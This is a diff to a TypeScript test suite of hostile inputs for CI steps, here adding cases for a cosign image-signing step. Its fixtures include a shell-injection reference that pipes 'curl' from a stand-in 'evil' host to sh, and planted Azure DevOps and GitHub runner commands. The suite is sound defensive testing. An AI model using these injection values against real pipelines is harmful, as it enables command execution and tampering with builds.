@@ -2,12 +2,13 @@
  * Hostile and careless inputs for the bundled steps. Each case names the input whose error it expects (kebab-case,
  * as on GitHub; the suite spells it for Azure DevOps), or a pattern for remote states that no input explains.
  */
-import { createHash } from 'node:crypto';
-import { chmodSync, mkdirSync, writeFileSync } from 'node:fs';
+import { createHash, generateKeyPairSync, randomBytes, scryptSync } from 'node:crypto';
+import { chmodSync, closeSync, mkdirSync, openSync, truncateSync as truncateFile, writeFileSync } from 'node:fs';
 import { join } from 'node:path';
+import nacl from 'tweetnacl';
 import { makeImage } from '../sandbox/make-image';
 
-export type Step = 'push' | 'trivy-gate' | 'replicate' | 'acr-import' | 'acr-token' | 'deploy';
+export type Step = 'push' | 'trivy-gate' | 'replicate' | 'acr-import' | 'acr-token' | 'deploy' | 'sign';
 /** html: 200 + a web page to everything; silent: never answers; trickle-registry: see stand-ins/registry.ts. */
 export type Server = 'html' | 'silent' | 'trickle-registry' | 'hostile-harbor';
 
@@ -102,6 +103,10 @@ export function writeWorkspace(dir: string): void {
   chmodSync(join(dir, 'fake-az', 'az'), 0o755);
   writeLayout(join(dir, 'layout'), true);
   writeLayout(join(dir, 'no-marker'), false);
+  put('sbom/not-json.cdx.json', '{"bomFormat": "CycloneDX", "components": [');
+  put('sbom/trivy-report.json', trivy({}));
+  put('sbom/array.json', '[]');
+  put('sbom/planted.json', JSON.stringify({ bomFormat: PLANTED.join('\n'), specVersion: PLANTED.join(' ') }));
 }
 
 /** A one-image OCI layout (config + empty layer list), with or without its oci-layout marker file. */
@@ -132,6 +137,37 @@ function writeLayout(dir: string, marker: boolean): void {
 }
 
 const harbor = { 'harbor-url': 'https://harbor.invalid', username: 'robot$ci', password: 'Hx9-secret-pw' };
+
+/** A valid P-256 key for the sign cases that are about something else; its body must never be shown either. */
+const SIGN_KEY = generateKeyPairSync('ec', { namedCurve: 'prime256v1' })
+  .privateKey.export({ type: 'pkcs8', format: 'pem' })
+  .toString();
+const bodyLines = (pem: string) => pem.split('\n').filter((l) => l && !l.startsWith('-----'));
+
+/**
+ * cosign's encrypted key format written from its description (go-securesystemslib encrypted.go: scrypt N=2^15 → a
+ * secretbox key; JSON with base64 fields, as PEM), so the suite needs no cosign binary; the integration tests decrypt
+ * keys from the real `cosign generate-key-pair`.
+ */
+function encryptedKey(pkcs8Pem: string, password: string): string {
+  const salt = randomBytes(32);
+  const nonce = randomBytes(24);
+  const key = scryptSync(password, salt, 32, { N: 32768, r: 8, p: 1, maxmem: 256 * 32768 * 8 });
+  const der = Buffer.from(pkcs8Pem.replace(/-----[^-]+-----|\s+/g, ''), 'base64');
+  const box = nacl.secretbox(new Uint8Array(der), new Uint8Array(nonce), new Uint8Array(key));
+  const json = JSON.stringify({
+    kdf: { name: 'scrypt', params: { N: 32768, r: 8, p: 1 }, salt: salt.toString('base64') },
+    cipher: { name: 'nacl/secretbox', nonce: nonce.toString('base64') },
+    ciphertext: Buffer.from(box).toString('base64'),
+  });
+  const lines = Buffer.from(json)
+    .toString('base64')
+    .match(/.{1,64}/g)!
+    .join('\n');
+  return `-----BEGIN ENCRYPTED SIGSTORE PRIVATE KEY-----\n${lines}\n-----END ENCRYPTED SIGSTORE PRIVATE KEY-----\n`;
+}
+const SIGN_PASSWORD = 'Sg-key-pw-4411';
+const SIGN_ENCRYPTED = encryptedKey(SIGN_KEY, SIGN_PASSWORD);
 
 /**
  * The hostile Harbor (stand-ins/hostile-harbor.ts over the real emulator): its admin, and the only write its cases
@@ -189,6 +225,14 @@ const deploy = (extra: Record<string, string>) => ({
   'admin-password': 'Adm1n-Pa55-unit',
   ...extra,
 });
+const sign = (extra: Record<string, string>) => ({
+  ...harbor,
+  repository: 'app/web',
+  reference: '1.0',
+  'cosign-key': SIGN_KEY,
+  ...extra,
+});
+const signSecrets = [harbor.password, ...bodyLines(SIGN_KEY)];
 const githubOnly: HostileCase['platforms'] = ['github'];
 
 export const CASES: HostileCase[] = [
@@ -753,6 +797,217 @@ export const CASES: HostileCase[] = [
     server: 'hostile-harbor',
     input: null,
     secrets: [HOSTILE_HARBOR.password],
+  },
+
+  // sign: the key, its password, the SBOM and the reference are all judged before the first request
+  {
+    name: 'cosign-key that is not PEM',
+    step: 'sign',
+    inputs: sign({ 'cosign-key': 'c2lnbi1tZS1wbGVhc2U=' }),
+    input: 'cosign-key',
+    says: /not a PEM private key/,
+    secrets: ['c2lnbi1tZS1wbGVhc2U='],
+  },
+  {
+    name: 'cosign-key whose PEM body is broken',
+    step: 'sign',
+    inputs: sign({
+      'cosign-key': '-----BEGIN EC PRIVATE KEY-----\nMHcCAQEEI!!not*base64\n-----END EC PRIVATE KEY-----\n',
+    }),
+    input: 'cosign-key',
+    says: /cannot be parsed/,
+  },
+  {
+    name: 'cosign-key cut off before its END line',
+    step: 'sign',
+    inputs: sign({ 'cosign-key': SIGN_KEY.split('\n').slice(0, 3).join('\n') }),
+    input: 'cosign-key',
+    secrets: bodyLines(SIGN_KEY).slice(0, 2),
+  },
+  {
+    name: 'cosign-key with runner commands planted around and inside its PEM block',
+    step: 'sign',
+    inputs: sign({
+      'cosign-key': [
+        ...PLANTED,
+        '-----BEGIN EC PRIVATE KEY-----',
+        'Proc-Type: 4,ENCRYPTED',
+        ...PLANTED,
+        ...bodyLines(SIGN_KEY),
+        '-----END EC PRIVATE KEY-----',
+        ...PLANTED,
+      ].join('\n'),
+    }),
+    input: 'cosign-key',
+    // Every line of the key input is masked (it is a secret as a whole), the planted ones too.
+    secrets: [...bodyLines(SIGN_KEY), ...PLANTED],
+  },
+  {
+    name: 'cosign-key with a planted command in its PEM type',
+    step: 'sign',
+    inputs: sign({
+      'cosign-key': SIGN_KEY.replace(/PRIVATE KEY/g, 'PRIVATE KEY ##vso[task.setvariable variable=PWNED]1'),
+    }),
+    input: 'cosign-key',
+    secrets: bodyLines(SIGN_KEY),
+  },
+  {
+    name: 'cosign-key that is a P-384 key',
+    step: 'sign',
+    inputs: sign({
+      'cosign-key': generateKeyPairSync('ec', { namedCurve: 'secp384r1' })
+        .privateKey.export({ type: 'sec1', format: 'pem' })
+        .toString(),
+    }),
+    input: 'cosign-key',
+    says: /P-256/,
+  },
+  {
+    name: 'cosign-key that is a public key',
+    step: 'sign',
+    inputs: sign({
+      'cosign-key': generateKeyPairSync('ec', { namedCurve: 'prime256v1' })
+        .publicKey.export({ type: 'spki', format: 'pem' })
+        .toString(),
+    }),
+    input: 'cosign-key',
+  },
+  {
+    name: 'an encrypted cosign key without its password',
+    step: 'sign',
+    inputs: sign({ 'cosign-key': SIGN_ENCRYPTED }),
+    input: 'cosign-key-password',
+    secrets: bodyLines(SIGN_ENCRYPTED),
+  },
+  {
+    name: 'cosign-key-password with runner commands planted in it',
+    step: 'sign',
+    inputs: sign({ 'cosign-key': SIGN_ENCRYPTED, 'cosign-key-password': `pw ${PLANTED.join(' ')}` }),
+    input: 'cosign-key-password',
+    says: /does not decrypt/,
+    secrets: [`pw ${PLANTED.join(' ')}`, SIGN_PASSWORD, ...bodyLines(SIGN_ENCRYPTED)],
+  },
+  {
+    name: 'cosign-key-password on two lines, the second a planted command',
+    step: 'sign',
+    inputs: sign({
+      'cosign-key': SIGN_ENCRYPTED,
+      'cosign-key-password': `${SIGN_PASSWORD}\n::error::PWNED forged error`,
+    }),
+    input: 'cosign-key-password',
+    says: /single line/,
+    secrets: [SIGN_PASSWORD, `${SIGN_PASSWORD}\n::error::PWNED forged error`],
+  },
+  {
+    name: 'an encrypted key whose content was tampered with',
+    step: 'sign',
+    inputs: sign({
+      'cosign-key': SIGN_ENCRYPTED.replace(
+        /\n([A-Za-z0-9+/]{8})/,
+        (_m, s: string) => `\n${s.split('').reverse().join('')}`,
+      ),
+      'cosign-key-password': SIGN_PASSWORD,
+    }),
+    input: 'cosign-key',
+    says: /not cosign's JSON key format/,
+    secrets: [SIGN_PASSWORD],
+  },
+  {
+    name: 'sbom that is not JSON',
+    step: 'sign',
+    inputs: sign({ sbom: 'sbom/not-json.cdx.json' }),
+    input: 'sbom',
+    says: /not JSON/,
+    secrets: signSecrets,
+  },
+  {
+    name: 'sbom that is a Trivy report, not an SBOM',
+    step: 'sign',
+    inputs: sign({ sbom: 'sbom/trivy-report.json' }),
+    input: 'sbom',
+    secrets: signSecrets,
+  },
+  { name: 'sbom that is a JSON array', step: 'sign', inputs: sign({ sbom: 'sbom/array.json' }), input: 'sbom' },
+  {
+    name: 'sbom whose format fields plant runner commands',
+    step: 'sign',
+    inputs: sign({ sbom: 'sbom/planted.json' }),
+    input: 'sbom',
+  },
+  { name: 'sbom that is a directory', step: 'sign', inputs: sign({ sbom: 'a-directory' }), input: 'sbom' },
+  {
+    name: 'sbom of 300 MiB',
+    step: 'sign',
+    inputs: sign({ sbom: 'sbom/huge.json' }),
+    input: 'sbom',
+    says: /up to 256 MiB/,
+    // Sparse: the size is what is judged, before the file is read; it takes no disk.
+    setup: (dir) => {
+      mkdirSync(join(dir, 'sbom'), { recursive: true });
+      closeSync(openSync(join(dir, 'sbom', 'huge.json'), 'w'));
+      truncateFile(join(dir, 'sbom', 'huge.json'), 300 * 1024 * 1024);
+    },
+  },
+  {
+    name: 'sign reference with a planted command',
+    step: 'sign',
+    inputs: sign({ reference: '1.0\n::error::PWNED forged error' }),
+    input: 'reference',
+  },
+  {
+    name: 'sign reference with shell syntax',
+    step: 'sign',
+    inputs: sign({ reference: '1.0;curl${IFS}evil|sh' }),
+    input: 'reference',
+  },
+  {
+    name: 'sign reference with a short digest',
+    step: 'sign',
+    inputs: sign({ reference: 'sha256:abc' }),
+    input: 'reference',
+  },
+  {
+    name: 'sign repository with a planted command',
+    step: 'sign',
+    inputs: sign({ repository: 'app/web ##vso[task.setvariable variable=PWNED;isOutput=true]1' }),
+    input: 'repository',
+  },
+  {
+    name: 'sign repository without its project',
+    step: 'sign',
+    inputs: sign({ repository: 'web' }),
+    input: 'repository',
+  },
+  { name: "layout 'both'", step: 'sign', inputs: sign({ layout: 'both' }), input: 'layout' },
+  {
+    name: "verify-in-harbor 'maybe'",
+    step: 'sign',
+    inputs: sign({ 'verify-in-harbor': 'maybe' }),
+    input: 'verify-in-harbor',
+  },
+  { name: 'sign timeout 0', step: 'sign', inputs: sign({ timeout: '0' }), input: 'timeout' },
+  {
+    name: 'signing an image the hostile Harbor does not have',
+    step: 'sign',
+    inputs: { ...hostile, repository: 'library/missing', reference: 'v1', 'cosign-key': SIGN_KEY },
+    server: 'hostile-harbor',
+    input: null,
+    says: /not found/,
+    secrets: [HOSTILE_HARBOR.password, ...bodyLines(SIGN_KEY)],
+  },
+  {
+    name: 'signing in a project the hostile Harbor does not have, by digest',
+    step: 'sign',
+    inputs: {
+      ...hostile,
+      repository: 'nosuch/app',
+      reference: `sha256:${'ab'.repeat(32)}`,
+      'cosign-key': SIGN_KEY,
+      layout: 'referrer',
+    },
+    server: 'hostile-harbor',
+    input: null,
+    secrets: [HOSTILE_HARBOR.password, ...bodyLines(SIGN_KEY)],
   },
 
   // deploy
